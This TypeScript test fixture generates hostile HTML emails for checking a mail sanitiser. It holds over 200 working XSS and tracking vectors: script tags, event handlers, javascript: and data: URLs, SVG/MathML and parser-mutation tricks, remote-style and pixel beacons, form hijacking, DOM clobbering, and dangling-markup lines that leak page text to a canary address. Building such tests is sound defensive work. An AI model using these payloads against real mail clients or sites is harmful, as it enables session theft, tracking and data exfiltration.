/** One way in which an HTML mail could do something to whoever reads it. */
export interface HostileMail {
  /** The class of attack: of each, at least one must work unsanitised, or the proof proves nothing. */
  kind: string;
  html: string;
}

/** Makes the HTML; `canary` is an address that nobody may ask for. */
type Make = string | ((canary: string) => string);

const base64 = (text: string) => Buffer.from(text).toString('base64');
const decimal = (text: string) => Array.from(text, (c) => `&#${c.charCodeAt(0)};`).join('');
const padded = (text: string) =>
  Array.from(text, (c) => `&#${`${c.charCodeAt(0)}`.padStart(7, '0')}`).join('');
const hexadecimal = (text: string) => Array.from(text, (c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const cssEscaped = (text: string) =>
  Array.from(text, (c) => `\\${c.charCodeAt(0).toString(16).padStart(6, '0')}`).join('');
const withoutScheme = (canary: string) => canary.slice('http:'.length);
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const DEAD_IMAGE = 'data:image/png;base64,AAAA';

/**
 * The public classes of HTML mail attacks (OWASP's cheat sheets, the PortSwigger list, the mutations that broke
 * sanitisers, the trackers of newsletters), written anew. `pwned()` is what a hostile script calls; the page that shows
 * the mail also holds names worth clobbering (`config`, `document.cookie`) and a text after the mail worth swallowing.
 */
const VECTORS: Record<string, readonly Make[]> = {
  scripts: [
    '<script>pwned()</script>',
    '<ScRiPt>pwned()</sCrIpT >',
    '<script\t\n>pwned()</script\t\n bar>',
    '<script/x>pwned()</script>',
    '<scr<script>ipt>pwned()</scr</script>ipt>',
    '<<script>pwned();//<</script>',
    (canary) => `<script src="${canary}/x.js"></script>`,
    (canary) => `<script src=${withoutScheme(canary)}/x.js></script>`,
    '<script src="data:text/javascript,pwned()"></script>',
    '<script type=module>pwned()</script>',
    '<script>pwned()',
    '<!--[if true]><script>pwned()</script><![endif]--><!--><script>pwned()</script>-->',
    `<script>var a="</script><script>pwned()//";</script>`,
    '<div><p><b></div><script>pwned()</script>',
  ],
  'event handlers': [
    '<img src=x onerror=pwned()>',
    `<img src="${DEAD_IMAGE}" onerror="pwned()">`,
    '<img/src="x"/onerror="pwned()"/>',
    '<img src=x\nonerror\n=\npwned()>',
    '<img src=x\fonerror\f=\fpwned()>',
    `<img src='x'onerror=pwned()>`,
    '<img src="x" title="a>b" onerror="pwned()">',
    '<img """ src=x onerror="pwned()">',
    '<img src=x OnErRoR=&#112;wned()>',
    '<img src=x:x onerror="pwned&lpar;&rpar;">',
    '<image src=x onerror=pwned()>',
    '<audio src=x onerror=pwned()></audio>',
    '<video><source onerror=pwned() src=x></video>',
    '<details open ontoggle=pwned()>x</details>',
    '<a onclick=pwned() tabindex=0>press me</a>',
    '<b onmouseover=pwned()>pass over me</b>',
    '<input autofocus onfocus=pwned()>',
    '<p contenteditable tabindex=1 onfocus=pwned()>x</p>',
    '<marquee onstart=pwned()>x</marquee>',
    '<body onload=pwned()>',
    '<body onpageshow=pwned()>',
    '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="pwned()">x</p>',
    '<style>@keyframes k{from{left:0}}</style><xss style="animation:k 10ms" onanimationend="pwned()">x</xss>',
    '<iframe onload=pwned()></iframe>',
    '<object data=x onerror=pwned()></object>',
    '<form><button onclick=pwned()>press me</button></form>',
    '<p onpointerenter=pwned() onmouseenter=pwned()>x</p>',
    '<link rel=stylesheet href=data:text/css, onload=pwned()>',
  ],
  'javascript addresses': [
    '<a href="javascript:pwned()">x</a>',
    '<a href="JaVaScRiPt:pwned()">x</a>',
    '<a href="java\tscript:pwned()">x</a>',
    '<a href="java\nscript\r:pwned()">x</a>',
    '<a href="java&Tab;script&colon;pwned()">x</a>',
    '<a href="java&NewLine;script:pwned()">x</a>',
    '<a href="\u0001javascript:pwned()">x</a>',
    '<a href="&#14;  javascript:pwned()">x</a>',
    `<a href="${decimal('javascript:pwned()')}">x</a>`,
    `<a href="${padded('javascript:pwned()')}">x</a>`,
    `<a href="${hexadecimal('javascript:pwned()')}">x</a>`,
    '<a href="javascript&#58;pwned()">x</a>',
    '<a href="javascript:%70wned()">x</a>',
    '<a href="javascript://example.com/%0apwned()">x</a>',
    '<a href=javascript:pwned() target=_self>x</a>',
    '<a href="https://example.com" href="javascript:pwned()">x</a><a href="javascript:pwned()" href="https://example.com">x</a>',
    '<area href="javascript:pwned()"><map name=m><area shape=default href="javascript:pwned()"></map>',
    '<iframe src="javascript:parent.pwned()"></iframe>',
    '<form action="javascript:pwned()"><input type=submit></form>',
    '<form><button formaction="javascript:pwned()">x</button></form>',
    '<form><input type=image src=x formaction="javascript:pwned()"></form>',
    '<object data="javascript:parent.pwned()"></object><embed src="javascript:parent.pwned()">',
    '<a href="vbscript:pwned()">x</a><a href="livescript:pwned()">x</a><a href="feed:javascript:pwned()">x</a>',
    '<img src="javascript:pwned()"><table background="javascript:pwned()"><tr><td>x</table>',
  ],
  'data addresses': [
    '<iframe src="data:text/html,<script>parent.postMessage(`pwned`,`*`)</script>"></iframe>',
    `<iframe src="data:text/html;base64,${base64('<script>parent.postMessage("pwned","*")</script>')}"></iframe>`,
    '<object data="data:text/html,<script>parent.postMessage(`pwned`,`*`)</script>"></object>',
    '<embed src="data:text/html,<script>parent.postMessage(`pwned`,`*`)</script>">',
    `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(svg('<script>parent.postMessage("pwned","*")</script>'))}">`,
    `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(svg('', 'onload="parent.postMessage(`pwned`,`*`)"'))}"></object>`,
    `<a href="data:text/html;base64,${base64('<script>opener.pwned()</script>')}">x</a>`,
    (canary) =>
      `<img src="data:image/svg+xml;base64,${base64(svg(`<image xlink:href="${canary}/svg.png"/>`))}">`,
    '<script src="data:;base64,cHduZWQoKQ=="></script>',
    '<link rel=stylesheet href="data:text/css,@keyframes k{}p{animation-name:k}"><p onanimationstart=pwned()>x</p>',
  ],
  'SVG and MathML': [
    '<svg onload=pwned()>',
    '<svg/onload=pwned()>',
    '<svg><script>pwned()</script></svg>',
    '<svg><script>&#112;&#119;ned()</script></svg>',
    '<svg><script href="data:text/javascript,pwned()"/></svg>',
    '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:pwned() /><text x=20 y=20>x</text></a></svg>',
    '<svg><set onbegin=pwned() attributename=x dur=1s>',
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
    '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
    '<svg><image href=x onerror=pwned()></svg>',
    (canary) => `<svg><image href="${canary}/i.png"/><feImage href="${canary}/f.png"/></svg>`,
    (canary) => `<svg><use href="${canary}/u.svg#x"/><style>@import "${canary}/s.css";</style></svg>`,
    '<svg><title><img src=x onerror=pwned()></title></svg>',
    '<svg><desc><svg onload=pwned()></desc></svg>',
    '<math href="javascript:pwned()">x</math><math><mtext><a href="javascript:pwned()">x</a></mtext></math>',
    '<math><mtext><img src=x onerror=pwned()></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  ],
  'mutations while parsing': [
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    '<svg><p><style><a id="</style><img src=1 onerror=pwned()>"></p></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    '<math><mtext><table><mglyph><style><math><img src onerror=pwned()></style></table>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=pwned()>">',
    '<textarea><p title="</textarea><img src=x onerror=pwned()>"></textarea>',
    '<title><p title="</title><img src=x onerror=pwned()>"></title>',
    '<style><p title="</style><img src=x onerror=pwned()>"></style>',
    '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
    '<iframe><p title="</iframe><img src=x onerror=pwned()>"></iframe>',
    '<select><option><style></option></select><img src=x onerror=pwned()></style>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=pwned()>">',
    '<template><script>pwned()</script></template><template shadowrootmode=open><img src=x onerror=pwned()></template>',
    '<plaintext><img src=x onerror=pwned()>',
    '<table><td><style></table><img src=x onerror=pwned()>',
    '<!--><img src=x onerror=pwned()>-->',
    '<!-- --!><img src=x onerror=pwned()> -->',
    '<!--[CDATA[--><img src=x onerror=pwned()>]]>',
    '<![CDATA[><img src=x onerror=pwned()>]]>',
    '<?xml ><img src=x onerror=pwned()>?>',
    '</ ><img src=x onerror=pwned()>',
    '<p title="&lt;/p&gt;&quot;&gt;&lt;img src=x onerror=pwned()&gt;">x</p><p id="x&quot;onmouseover=&quot;pwned()">x',
    '&lt;img src=x onerror=pwned()&gt;<i>&amp;lt;img src=x onerror=pwned()&amp;gt;</i>',
    '<p title=`x><img src=x onerror=pwned()>`>x',
    '<a title="</a><img src=x onerror=pwned()>" href="https://example.com/"onmouseover=pwned()>x',
    `${'<div>'.repeat(600)}<svg><style><p title="</style><img src=x onerror=pwned()>">`,
    '<img src=x on\u0000error=pwned()><img src=x onerror\u0000=pwned()><im\u0000g src=x onerror=pwned()>',
    `<font color="red;}</style><img src=x onerror=pwned()>" face="'><img src=x onerror=pwned()>">x</font>`,
  ],
  'remote styles': [
    (canary) => `<style>@import "${canary}/a.css";</style>`,
    (canary) => `<style>@import url(${withoutScheme(canary)}/a.css);</style>`,
    (canary) => `<style>p{background:url("${canary}/b.png")}</style><p>x</p>`,
    (canary) => `<p style="background:url(${canary}/c.png)">x</p>`,
    (canary) => `<p style="background-image:\\75\\72\\6c(${canary}/d.png)">x</p>`,
    (canary) => `<p style="${cssEscaped('background')}:url('${canary}/e.png')">x</p>`,
    (canary) =>
      `<p style="background:/**/url(/**/${canary}/f.png)">x</p><p style="back/**/ground:url(${canary}/f2.png)">`,
    (canary) => `<p style="background:&#117;rl(&quot;${canary}/g.png&quot;)">x</p>`,
    (canary) => `<p style="background:image-set('${canary}/h.png' 1x)">x</p>`,
    (canary) =>
      `<p style="list-style:url(${canary}/i.png);display:list-item;border-image:url(${canary}/j.png) 1;border:1px solid">x</p>`,
    (canary) =>
      `<p style="cursor:url(${canary}/k.png),auto;content:url(${canary}/l.png);--x:url(${canary}/m.png);background:var(--x)">x</p>`,
    (canary) => `<style>@font-face{font-family:f;src:url(${canary}/n.woff2)}p{font-family:f}</style><p>x</p>`,
    (canary) => `<link rel=stylesheet href="${canary}/o.css">`,
    (canary) =>
      `<LINK REL="alternate stylesheet&#32;stylesheet" HREF="${canary}/p.css"><link rel=icon href="${canary}/q.ico">`,
    (canary) => `<style>body{background:url(${canary}/r.png)}</style>`,
    (canary) => `<style><!-- @import '${canary}/s.css'; --></style>`,
    (canary) => `<svg><style>@import "${canary}/t.css";</style></svg>`,
    (canary) =>
      `<p style="filter:url(${canary}/u.svg#f);mask:url(${canary}/v.svg#m);-webkit-mask-image:url(${canary}/w.png)">x</p>`,
    (canary) => `<style>[value^=s]{background:url(${canary}/secret-s.png)}</style><input value=secret>`,
  ],
  'styles that run or cover': [
    '<p style="width:expression(pwned())">x</p><p style="-moz-binding:url(data:text/xml,x)">x</p>',
    '<p style="behavior:url(#default#time2)" onbegin="pwned()">x</p>',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended</div>',
    '<style>#after{display:none}</style>',
    '<style>* {display:none !important}</style>',
    '<div style="position:absolute;top:0;left:0;width:5000px;height:5000px">x</div>',
    '<div class="overlay" style="margin-top:-2000px;position:relative;height:5000px">x</div>',
  ],
  'remote images and media': [
    (canary) => `<img src="${canary}/a.gif">`,
    (canary) => `<img src="${canary}/pixel.gif" width=1 height=1>`,
    (canary) => `<img src=${withoutScheme(canary)}/b.gif>`,
    (canary) => `<img src="${canary.replace('://', ':\\\\')}/c.gif">`,
    (canary) => `<img src="${canary.replace('http://', '\\\\')}/d.gif">`,
    (canary) => `<img src="${canary.replace('http://', '/\\')}/e.gif">`,
    (canary) => `<img src="ht\ntp://${canary.slice('http://'.length)}/f.gif">`,
    (canary) => `<img src="${decimal(canary)}/g.gif">`,
    (canary) => `<img src="cid:x" srcset="${canary}/h.gif 1x, ${canary}/i.gif 2x">`,
    (canary) => `<picture><source srcset="${canary}/j.gif"><img src="cid:x"></picture>`,
    (canary) => `<img src="cid:x" src="${canary}/k0.gif"><img src="${canary}/k.gif" src="cid:x">`,
    (canary) => `<input type=image src="${canary}/l.gif">`,
    (canary) => `<video src="${canary}/m.mp4" poster="${canary}/n.gif" autoplay></video>`,
    (canary) => `<audio src="${canary}/o.mp3" preload=auto></audio>`,
    (canary) => `<video><source src="${canary}/p.mp4"><track default src="${canary}/q.vtt"></video>`,
    (canary) =>
      `<table background="${canary}/r.gif"><tr><td background="${canary}/s.gif">x</td></tr></table>`,
    (canary) => `<body background="${canary}/t.gif">x</body>`,
    (canary) => `<object data="${canary}/u.gif"></object><embed src="${canary}/v.gif">`,
    (canary) =>
      `<image src="${canary}/w.gif"><img lowsrc="${canary}/x.gif" dynsrc="${canary}/y.gif" longdesc="${canary}/z">`,
    (canary) => `<img src="cid:x" data-remote-src="${canary}/forged.gif" loading=eager>`,
  ],
  'remote pages, hints and pings': [
    (canary) => `<iframe src="${canary}/frame"></iframe>`,
    (canary) => `<iframe srcdoc="<img src='${canary}/inner.gif'><script>parent.pwned()</script>"></iframe>`,
    (canary) => `<frameset><frame src="${canary}/frame"></frameset>`,
    (canary) => `<portal src="${canary}/portal"></portal><fencedframe src="${canary}/fenced"></fencedframe>`,
    (canary) =>
      `<link rel=prefetch href="${canary}/prefetch"><link rel=preload as=image href="${canary}/preload">`,
    (canary) => `<link rel=modulepreload href="${canary}/module.js"><link rel=preconnect href="${canary}">`,
    (canary) => `<a href="${canary}/link" ping="${canary}/ping">x</a>`,
    (canary) =>
      `<a href="${canary}/link" attributionsrc="${canary}/attribution" download target=_blank>x</a>`,
    (canary) =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${canary}/rules"]}]}</script>`,
    (canary) => `<link rel=manifest href="${canary}/manifest.json"><link rel=dns-prefetch href="${canary}">`,
  ],
  'redirections, bases and forms': [
    (canary) => `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
    (canary) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${canary}/refresh2'">`,
    '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *">',
    (canary) => `<base href="${canary}/"><img src="based.gif"><a href="based">x</a>`,
    (canary) => `<base href="${canary}/"><img src="/based.gif">`,
    (canary) => `<form action="${canary}/form"><input name=password value=1><input type=submit></form>`,
    (canary) => `<form action="${canary}/form" method=post><button>x</button></form>`,
    (canary) => `<form id=f action="${canary}/form"></form><button form=f>x</button>`,
    (canary) => `<form><button formaction="${canary}/form">x</button></form>`,
    (canary) => `<isindex action="${canary}/form" type=submit><keygen autofocus onfocus=pwned()>`,
    (canary) =>
      `<form action="${canary}/form"><select onchange=pwned()><option>x</select><input type=submit></form>`,
  ],
  'clobbering of names': [
    '<a id=config href="tel:1">x</a>',
    '<a id=config></a><a id=config name=url href="https://example.com/x">x</a>',
    '<form id=config><input name=url></form>',
    '<img name=cookie>',
    '<form name=getElementById></form>',
    '<embed name=querySelector><object id=config></object>',
    '<img name=body><form name=forms></form>',
    '<iframe name=config srcdoc="<a id=url>x</a>"></iframe>',
    '<p id=after>The end of the mail, or so it seems</p>',
  ],
  'dangling markup': [
    (canary) => `<img src='${canary}/swallow?`,
    (canary) => `<img src="${canary}/swallow?`,
    (canary) => `<a href='${canary}/link?x=`,
    (canary) => `<form action="${canary}/form"><button>x</button><textarea name=t>`,
    '<!-- never closed',
    '<textarea>',
    '<title>',
    '<style>',
    '<script>',
    '<xmp>',
    '<plaintext>',
    '<iframe>',
    '<noscript>',
    '<select>',
    '<table><caption><svg><desc>',
    '</div></div></body></html><p>outside of the mail',
    '</div><p id=outside>outside of the mail</p><div>',
    '<p title="',
    "<p title='a' lang=\"",
    `<a href="https://example.com/"><table><a href='`,
  ],
};

/** Every hostile mail, in an order that is the same in every run. `canaryFor` gives the address for one of them. */
export function hostileMails(canaryFor: (index: number) => string): HostileMail[] {
  const flat = Object.entries(VECTORS).flatMap(([kind, makes]) => makes.map((make) => ({ kind, make })));
  return flat.map(({ kind, make }, index) => ({
    kind,
    html: typeof make === 'string' ? make : make(canaryFor(index)),
  }));
}
